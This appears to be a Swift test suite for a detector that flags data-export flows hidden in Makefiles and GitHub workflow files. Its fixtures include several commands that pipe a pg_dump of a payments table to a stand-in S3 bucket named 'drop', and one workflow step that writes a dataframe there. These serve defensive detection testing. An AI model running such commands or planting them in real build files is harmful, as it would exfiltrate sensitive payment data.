import Detection
import Detectors
import Testing

private func comes(_ says: String, _ path: String, line: Int, _ text: String) -> ExpectedReading {
  ExpectedReading(
    path: path,
    old: nil,
    new: text,
    direction: .widened,
    kind: "data-export.flow",
    line: line,
    says: says
  )
}

@Suite("Scripts within other files")
struct EmbeddedScriptTests {
  private static let dump = "an export of payments.* to s3://drop/p"

  static let cases = [
    comes(
      dump,
      "Makefile",
      line: 5,
      "DUMP ?= pg_dump\nTO = s3://$(BUCKET)\nBUCKET := drop\nx:\n\t@$(DUMP) payments | aws s3 cp - $(TO)/p\n"
    ),
    comes(
      dump,
      "Makefile",
      line: 1,
      "X := $(shell pg_dump payments | aws s3 cp - s3://drop/p)\n"
    ),
    comes(dump, "Makefile", line: 1, "a: ; pg_dump payments | aws s3 cp - s3://drop/p\n"),
    comes(
      dump,
      "Makefile",
      line: 3,
      "a:\n\techo $$(pwd) && \\\n\t  pg_dump payments | aws s3 cp - s3://drop/p\n"
    ),
    comes(
      "s3://drop/x",
      ".github/workflows/a.yml",
      line: 7,
      """
      on: push
      jobs:
        a:
          steps:
            - shell: python
              run: |
                df.to_csv("s3://drop/x")

      """
    ),
  ]

  @Test("are read as what they are", arguments: cases)
  func export(_ expected: ExpectedReading) { checkReading(expected, by: ExportsDetector()) }

  private static func step(_ uses: String, _ script: String) -> String {
    "on: push\njobs:\n  a:\n    steps:\n      - uses: \(uses)\n        with:\n          script: |\n            \(script)\n"
  }

  private func direction(_ path: String, _ old: String, _ new: String) -> Direction? {
    let pair = FilePair(path: Array(path.utf8), old: Array(old.utf8), new: Array(new.utf8))
    return Verdict(ExportsDetector().read(pair)).direction
  }

  @Test("are shell unless the action says otherwise")
  func javaScript() {
    let path = ".github/workflows/a.yml"
    let old = "const x = a ? `${b}\\n` : '';"
    let new = "const x = a ? `${c}\\n` : '';"
    let own = "actions/github-script@v7"
    #expect(direction(path, Self.step(own, old), Self.step(own, new)) == .equal)
    let other = "appleboy/ssh-action@v1"
    #expect(direction(path, Self.step(other, "echo"), Self.step(other, "$X run")) == .unknown)
  }

  @Test("of make hide a command only where nobody sets its variable")
  func makefiles() {
    let rule = "a:\n\t$(X) run\n"
    #expect(direction("Makefile", "X = echo\n" + rule, "X = true\n" + rule) == .equal)
    #expect(direction("Makefile", "X = echo\n" + rule, rule) == .unknown)
    #expect(direction("Makefile", rule, "b:\n" + rule) == .equal)
    #expect(direction("Makefile", "X = echo\n" + rule, "X = echo\nX = true\n" + rule) == .unknown)
  }
}
